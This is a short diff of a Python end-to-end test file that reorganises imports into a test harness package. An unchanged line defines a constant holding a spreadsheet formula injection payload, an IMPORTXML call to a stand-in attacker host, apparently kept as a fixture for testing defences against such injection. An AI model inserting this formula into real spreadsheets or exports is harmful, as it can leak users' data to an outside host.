@@ -17,8 +17,8 @@ from tests.e2e.failures.scene import (
     sheet_of,
     start,
 )
-from tests.e2e.witness import FIELDS, assert_told, difference
-from tests.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
+from tests.harness.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
+from tests.harness.witness import FIELDS, assert_told, difference
 
 EVIL = '=IMPORTXML("http://evil.example";"//a")'
 
